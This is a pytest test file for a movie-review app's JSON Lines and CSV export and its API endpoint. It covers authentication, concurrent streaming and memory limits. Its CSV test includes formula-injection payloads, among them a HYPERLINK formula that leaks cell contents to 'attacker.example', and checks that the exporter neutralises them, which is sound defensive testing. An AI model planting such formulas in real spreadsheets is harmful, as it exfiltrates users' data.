"""The export: `textflix export` (JSON Lines and CSV) and GET /api/export.jsonl, on the page-test database.

The expected values come from the fixture's own tables (``tests.web_fixtures``) and from
SQL, never from the export code. The last tests show that the export reads the reviews in
chunks with a fixed number of queries each, and that its memory does not grow with the
number of reviews.
"""

import csv
import gc
import json
import math
import socket
import sqlite3
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import httpx
import pandas
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, insert

from app.cli import main
from app.db import Explanation, Movie, Prediction, Review, Sentence, SentenceWeight, WordWeight, make_engine, migrate, session_scope
from app.web.export import FORMULA_STARTS, csv_columns, export_rows, spreadsheet_safe
from app.web.main import create_app
from app.web.schemas import ExportRow
from app.settings import Settings
from model.data import clean_text
from model.quality import QUALITY_FIELDS
from tests.conftest import ROOT, serve_in_thread
from tests.web_fixtures import CATALOGUE, analyzer_app, build_web_database, explanation_figures

TOKEN = "export-s3cret"
WRITER_LABELED = "Seen it twice. Not for me."
WORD_FIT = dict(samples=300, intercept=0.4, score=0.66)


@pytest.fixture(scope="module")
def database(tmp_path_factory) -> tuple[str, Path]:
    """The page-test database, plus a user review with its writer's label and an NB-SVM word-level fit."""
    path = tmp_path_factory.mktemp("export") / "textflix.db"
    url = build_web_database(path)
    engine = make_engine(url)
    with session_scope(engine) as session:
        session.add(
            Review(
                title_id="tt0100003", text=WRITER_LABELED, label="negative", split="catalogue", source="user",
                word_count=6,
            )
        )  # fmt: skip
        session.add(Explanation(review_id=1, model="nbsvm", level="word", **WORD_FIT))
    engine.dispose()
    return url, path


def sql(path: Path, statement: str, *args) -> list[tuple]:
    with sqlite3.connect(path) as connection:
        return connection.execute(statement, args).fetchall()


def export_file(url: str, tmp_path: Path, *flags: str) -> Path:
    output = tmp_path / "export.out"
    assert main(["export", "--database", url, "--output", str(output), *flags]) == 0
    return output


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


# --- JSON Lines -------------------------------------------------------------------------------


def test_jsonl_holds_every_catalogue_review_with_its_figures(database, tmp_path):
    url, path = database
    rows = read_jsonl(export_file(url, tmp_path))
    catalogue = [id for (id,) in sql(path, "SELECT id FROM reviews WHERE split = 'catalogue' ORDER BY id")]
    hidden = {id for (id,) in sql(path, "SELECT id FROM reviews WHERE split != 'catalogue'")}
    assert [row["id"] for row in rows] == catalogue and len(catalogue) == len(CATALOGUE) + 1
    assert hidden and not hidden & {row["id"] for row in rows}
    for row in rows:
        ExportRow.model_validate(row)  # the schema OpenAPI documents for each line

    for index, (row, fixture) in enumerate(zip(rows, CATALOGUE)):  # the fixture's reviews, in id order
        title_id, gold, rating, source, sentences, bert, nbsvm, words = fixture
        assert (row["title_id"], row["source"], row["rating"]) == (title_id, source, rating)
        assert row["gold"] == (gold if source == "imdb" else None)
        assert row["predictions"] == {
            "nbsvm": {"label": nbsvm[0], "p_positive": nbsvm[1]},
            "bert": {"label": bert[0], "p_positive": bert[1]},
        }
        assert [(s["text"], s["weights"]["bert"], s["weights"]["nbsvm"]) for s in row["sentences"]] == sentences
        for sentence in row["sentences"]:
            assert row["text"][sentence["start"] : sentence["end"]] == sentence["text"]
        assert {w["word"]: w["weight"] for w in row["words"]} == words
        assert [abs(w["weight"]) for w in row["words"]] == sorted((abs(w) for w in words.values()), reverse=True)
        for model in ("bert", "nbsvm"):
            figures = explanation_figures(index, model)
            explanation = row["explanations"][model]
            assert {name: explanation[name] for name in ("samples", "intercept", "score")} == {
                name: figures[name] for name in ("samples", "intercept", "score")
            }
            assert explanation["quality"] == {name: figures[name] for name in QUALITY_FIELDS}
            assert explanation["weak"] is (figures["score"] < 0.4 or figures["stability"] < 0.5)
            assert explanation["reading"]
    explained = rows[: len(CATALOGUE)]
    assert any(row["explanations"]["bert"]["weak"] for row in explained)
    assert not any(row["explanations"]["nbsvm"]["weak"] for row in explained)


def test_titles_user_labels_and_the_word_level_fit(database, tmp_path):
    url, _ = database
    rows = {row["id"]: row for row in read_jsonl(export_file(url, tmp_path))}
    assert rows[1]["title"] == "The Lighthouse Keeper" and rows[1]["word_explanation"] == WORD_FIT
    assert rows[2]["word_explanation"] is None
    no_metadata = next(row for row in rows.values() if row["title_id"] == "tt0100004")
    assert no_metadata["title"] is None
    [labeled] = [row for row in rows.values() if row["text"] == WRITER_LABELED]
    # a writer's label is no gold label; a review not yet analysed has no figures
    assert (labeled["source"], labeled["gold"], labeled["user_label"]) == ("user", None, "negative")
    assert (labeled["predictions"], labeled["sentences"], labeled["explanations"]) == ({}, [], {})
    [unlabeled] = [row for row in rows.values() if row["source"] == "user" and row["text"] != WRITER_LABELED]
    assert unlabeled["gold"] is None and unlabeled["user_label"] is None and unlabeled["rating"] is None


def test_pandas_reads_the_jsonl_in_one_call(database, tmp_path):
    url, path = database
    frame = pandas.read_json(export_file(url, tmp_path), lines=True)
    [(count,)] = sql(path, "SELECT COUNT(*) FROM reviews WHERE split = 'catalogue'")
    assert len(frame) == count
    assert list(frame.columns) == list(ExportRow.model_fields)
    first = frame.iloc[0]
    # pandas' fast float parser may be off in the last digit (precise_float=True is exact)
    assert first["explanations"]["bert"]["quality"]["stability"] == pytest.approx(explanation_figures(0, "bert")["stability"])
    assert first["sentences"][0]["text"] == CATALOGUE[0][4][0][0]


def test_without_output_the_command_writes_to_standard_output(database, tmp_path):
    url, _ = database
    result = subprocess.run(
        [sys.executable, "-m", "app.cli", "export", "--database", url],
        cwd=ROOT, capture_output=True, text=True, encoding="utf-8", timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout == export_file(url, tmp_path).read_text(encoding="utf-8")


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_is_one_row_per_review_with_flat_columns(database, tmp_path):
    url, _ = database
    rows = read_jsonl(export_file(url, tmp_path))
    frame = pandas.read_csv(export_file(url, tmp_path, "--format", "csv"), float_precision="round_trip")
    assert list(frame.columns) == csv_columns()
    assert list(frame["id"]) == [row["id"] for row in rows]
    assert {"bert_p_positive", "bert_score", "bert_comprehensiveness", "nbsvm_stability", "word_score"} <= set(frame)
    for (_, line), row in zip(frame.iterrows(), rows):
        assert json.loads(line["sentences"]) == row["sentences"]
        assert json.loads(line["words"]) == row["words"]
        for model, explanation in row["explanations"].items():
            assert line[f"{model}_p_positive"] == row["predictions"][model]["p_positive"]
            assert line[f"{model}_score"] == explanation["score"]
            assert bool(line[f"{model}_weak"]) is explanation["weak"]
            for name in QUALITY_FIELDS:
                assert line[f"{model}_{name}"] == explanation["quality"][name]
    # a review without figures has empty cells, read as missing
    labeled = frame[frame["text"] == WRITER_LABELED].iloc[0]
    assert labeled["user_label"] == "negative" and pandas.isna(labeled["bert_p_positive"])
    assert pandas.isna(labeled["gold"])


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    """Reviews posted through the API that begin like a formula come out of the CSV with a leading
    quote (OWASP's rule); the same texts stay as they were stored in JSON Lines (cleaned as any
    posted text is: a leading tab or carriage return goes with the text's outer whitespace)."""
    url = build_web_database(tmp_path / "textflix.db")
    app, _, _ = analyzer_app(url, api_token=TOKEN)
    with TestClient(app) as client:
        for text in [*FORMULAS, "A good film. -3 for the ending."]:
            response = client.post(
                "/api/reviews", json={"text": text, "title_id": "tt0100001"}, headers={"Authorization": f"Bearer {TOKEN}"}
            )
            assert response.status_code == 201, response.text
    with export_file(url, tmp_path, "--format", "csv").open(newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    texts = [line["text"] for line in lines if line["source"] == "user"]
    stored = [clean_text(text) for text in FORMULAS]
    assert stored[-2:] == ["=1+1", "=1+1"]
    assert texts[-len(FORMULAS) - 1 :] == [*("'" + text for text in stored), "A good film. -3 for the ending."]
    for text in ("\t=1+1", "\r=1+1"):  # as texts stored before posted texts were cleaned; the formula after
        assert spreadsheet_safe(text) == f"'{text[0]}'=1+1"  # the tab or line break is a cell's start too
    cells = [cell for line in lines for cell in line.values()]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    rows = read_jsonl(export_file(url, tmp_path))
    assert [row["text"] for row in rows if row["source"] == "user"][-len(FORMULAS) - 1 : -1] == stored


# --- errors ------------------------------------------------------------------------------------


def test_a_missing_database_or_unwritable_file_is_one_sentence_and_exit_1(database, tmp_path, capsys):
    url, _ = database
    assert main(["export", "--database", f"sqlite:///{tmp_path / 'none.db'}"]) == 1
    error = capsys.readouterr().err
    assert error.startswith("textflix: error: No database at") and error.count("\n") == 1
    assert not (tmp_path / "none.db").exists()

    target = tmp_path / "missing-folder" / "export.jsonl"
    assert main(["export", "--database", url, "--output", str(target)]) == 1
    error = capsys.readouterr().err
    assert error == f"textflix: error: Cannot write {target}: No such file or directory.\n"

    empty = tmp_path / "empty.db"
    empty.touch()  # a database file without tables
    output = tmp_path / "out.jsonl"
    assert main(["export", "--database", f"sqlite:///{empty}", "--output", str(output)]) == 1
    error = capsys.readouterr().err
    assert error.startswith("textflix: error: Cannot read the database") and "textflix build" in error
    assert list(tmp_path.glob("out.jsonl*")) == []  # no half-written file


# --- GET /api/export.jsonl --------------------------------------------------------------------


def test_the_api_streams_the_same_rows(database, tmp_path):
    url, _ = database
    settings = Settings(database_url=url, data_dir=tmp_path, api_token=None, allow_anonymous_writes=True)
    with serve_in_thread(create_app(settings)) as server:
        response = httpx.get(f"{server}/api/export.jsonl", timeout=60)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert response.text == export_file(url, tmp_path).read_text(encoding="utf-8")


def test_without_a_token_the_api_export_is_open_as_writes_are(database, tmp_path):
    """Only with ``allow_anonymous_writes``, wherever the client is: this machine's own clients too."""
    url, _ = database
    with serve_in_thread(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=None))) as server:
        response = httpx.get(f"{server}/api/export.jsonl")
    assert response.status_code == 403
    [item] = response.json()["detail"]
    assert item["field"] == "Authorization" and "exports the database" in item["message"] and "TEXTFLIX_API_TOKEN" in item["message"]


@pytest.mark.slow
def test_one_api_export_at_a_time(tmp_path):
    url = f"sqlite:///{tmp_path / 'many.db'}"
    fill_many(url, 20_000)  # about 40 MB of JSON Lines: more than the sockets buffer
    app = create_app(Settings(database_url=url, data_dir=tmp_path, api_token=TOKEN))
    auth = {"Authorization": f"Bearer {TOKEN}"}
    with serve_in_thread(app) as server, httpx.Client(base_url=server, headers=auth, timeout=60) as client:
        with client.stream("GET", "/api/export.jsonl") as first:
            assert first.status_code == 200
            next(first.iter_bytes())  # the first is streaming, and its reader waits
            second = client.get("/api/export.jsonl")
        assert second.status_code == 429 and int(second.headers["retry-after"]) >= 1
        assert "one at a time" in second.json()["detail"][0]["message"]
        deadline = time.monotonic() + 30  # the first one's client left: its export stops and frees the way
        while (third := client.get("/api/export.jsonl")).status_code == 429 and time.monotonic() < deadline:
            time.sleep(0.2)
    assert third.status_code == 200 and len(third.text.splitlines()) == 20_000


@pytest.mark.slow
def test_an_export_whose_client_left_mid_stream_lets_the_next_one_begin(tmp_path):
    """Read part of the export over a socket, and hang up: the next export is answered, not refused as
    "streaming another export" until the server restarts."""
    url = f"sqlite:///{tmp_path / 'many.db'}"
    fill_many(url, 20_000)  # about 40 MB of JSON Lines: more than the sockets buffer
    app = create_app(Settings(database_url=url, data_dir=tmp_path, api_token=TOKEN))
    gc.disable()  # an idle server may not collect for minutes: the lock may not wait for the collector
    try:
        with serve_in_thread(app) as server:
            host, port = server.removeprefix("http://").rsplit(":", 1)
            with socket.create_connection((host, int(port)), timeout=30) as connection:
                connection.sendall(f"GET /api/export.jsonl HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {TOKEN}\r\n\r\n".encode())
                read = b""
                while len(read) < 65_536:
                    read += connection.recv(65_536)
            assert read.startswith(b"HTTP/1.1 200")
            deadline, statuses = time.monotonic() + 10, []
            while time.monotonic() < deadline and 200 not in statuses:
                with httpx.stream("GET", f"{server}/api/export.jsonl", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=60) as again:
                    statuses.append(again.status_code)
                time.sleep(0.2)
    finally:
        gc.enable()
    assert statuses[-1] == 200, statuses


def test_the_api_export_needs_the_token_when_one_is_set(database, tmp_path):
    url, _ = database
    with TestClient(create_app(Settings(database_url=url, data_dir=tmp_path, api_token=TOKEN))) as client:
        response = client.get("/api/export.jsonl")
        assert response.status_code == 401 and response.headers["www-authenticate"] == "Bearer"
        assert response.json()["detail"][0]["field"] == "Authorization"
        assert client.get("/api/export.jsonl", headers={"Authorization": "Bearer wrong"}).status_code == 403
        response = client.get("/api/export.jsonl", headers={"Authorization": f"Bearer {TOKEN}"})
        assert response.status_code == 200 and len(response.text.splitlines()) == len(CATALOGUE) + 1
        assert client.get("/api/movies").status_code == 200  # other reads stay public

        operation = client.get("/openapi.json").json()["paths"]["/api/export.jsonl"]["get"]
    assert operation["security"] == [{"HTTPBearer": []}]
    assert {"401", "403", "503"} <= set(operation["responses"])
    lines = operation["responses"]["200"]["content"]["application/x-ndjson"]
    assert lines["itemSchema"] == {"$ref": "#/components/schemas/ExportRow"}


def test_the_api_export_of_a_missing_database_is_a_503(tmp_path):
    with TestClient(create_app(Settings(data_dir=tmp_path, api_token=TOKEN))) as client:
        response = client.get("/api/export.jsonl", headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 503 and "textflix build" in response.json()["detail"][0]["message"]


# --- chunks and memory -------------------------------------------------------------------------


def count_statements(engine, chunk_size: int) -> tuple[list[dict], int]:
    """The export rows with ``chunk_size``, and how many SQL statements they took."""
    statements = []

    def listener(_connection, _cursor, statement, *_):
        statements.append(statement)

    event.listen(engine, "before_cursor_execute", listener)
    try:
        rows = list(export_rows(engine, chunk_size))
    finally:
        event.remove(engine, "before_cursor_execute", listener)
    return rows, len([s for s in statements if s.lstrip().upper().startswith("SELECT")])


def test_the_export_reads_a_chunk_at_a_time_with_a_fixed_number_of_queries(database):
    url, _ = database
    engine = make_engine(url)
    whole, one_chunk = count_statements(engine, 500)
    chunked, statements = count_statements(engine, 2)
    engine.dispose()
    assert chunked == whole
    per_chunk = one_chunk - 1  # the last query finds no more reviews
    chunks = math.ceil(len(whole) / 2)
    assert statements == per_chunk * chunks + 1 and chunks > 1


def fill_many(url: str, reviews: int, sentences: int = 6) -> None:
    """A catalogue of ``reviews`` generated reviews with every figure the export reads."""
    engine = make_engine(url)
    migrate(engine)
    text = " ".join(f"Sentence number {i} of a long enough generated review about a film." for i in range(sentences))
    figures = explanation_figures(1, "bert")
    with session_scope(engine) as session:
        session.add(Movie(title_id="tt0200001", title="Generated"))
        session.flush()
        session.execute(
            insert(Review),
            [dict(id=i, title_id="tt0200001", text=f"{i} {text}", label="positive", rating=8, split="catalogue",
                  source="imdb", source_key=f"test/{i}", word_count=99) for i in range(1, reviews + 1)],
        )  # fmt: skip
        session.execute(
            insert(Prediction),
            [dict(review_id=i, model=m, label="positive", p_positive=0.8) for i in range(1, reviews + 1) for m in ("bert", "nbsvm")],
        )
        session.execute(
            insert(Explanation),
            [dict(review_id=i, model=m, level="sentence", **figures) for i in range(1, reviews + 1) for m in ("bert", "nbsvm")],
        )
        session.execute(
            insert(Sentence),
            [dict(id=i * sentences + p, review_id=i, position=p, start=0, end=10, text=f"Sentence number {p}.")
             for i in range(1, reviews + 1) for p in range(sentences)],
        )  # fmt: skip
        session.execute(
            insert(SentenceWeight),
            [dict(sentence_id=i * sentences + p, model=m, weight=0.1 * p)
             for i in range(1, reviews + 1) for p in range(sentences) for m in ("bert", "nbsvm")],
        )  # fmt: skip
        session.execute(
            insert(WordWeight),
            [dict(review_id=i, model="nbsvm", word=f"word{w}", weight=0.01 * w) for i in range(1, reviews + 1) for w in range(8)],
        )
    engine.dispose()


def export_peak_bytes(url: str, chunk_size: int) -> tuple[int, int]:
    """(reviews exported, peak bytes allocated while exporting them), the rows thrown away as they come."""
    engine = make_engine(url)
    list(export_rows(engine, chunk_size))  # warm up: compiled statements, the connection pool
    tracemalloc.start()
    try:
        count = sum(1 for _ in export_rows(engine, chunk_size))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        engine.dispose()
    return count, peak


@pytest.mark.slow
def test_the_exports_memory_does_not_grow_with_the_number_of_reviews(tmp_path):
    small, large = f"sqlite:///{tmp_path / 'small.db'}", f"sqlite:///{tmp_path / 'large.db'}"
    fill_many(small, 400)
    fill_many(large, 2_400)
    small_count, small_peak = export_peak_bytes(small, 200)
    large_count, large_peak = export_peak_bytes(large, 200)
    assert (small_count, large_count) == (400, 2_400)
    # six times the reviews: reading them all at once would take about six times the memory
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)
